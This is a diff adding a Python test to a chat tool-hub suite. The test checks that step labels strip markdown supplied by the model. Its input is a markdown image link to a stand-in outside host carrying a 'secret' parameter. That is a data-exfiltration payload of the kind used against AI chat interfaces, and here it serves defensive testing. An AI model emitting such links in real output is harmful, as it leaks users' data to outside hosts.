@@ -426,3 +426,13 @@ def test_results_are_capped(http_url: str) -> None:
         result = hub.call("plant__list_equipment")
     assert result.status == "ok" and result.truncated and len(result.output) == 100 and result.total_chars > 100
     assert result.text.endswith("only the first 100 are kept.]") and MAX_RESULT_CHARS == 16_000
+
+
+def test_a_step_label_cannot_carry_markdown_from_the_model() -> None:
+    from chat.tools.present import step_label
+    from chat.tools.steps import ToolStep
+
+    step = ToolStep("c1", "![x](https://elsewhere.example/?d=secret)", "{}", 1)
+    label = step_label(step, "en")
+    assert "](" not in label and "![" not in label and "https://" not in label
+    assert label.endswith("— running…")
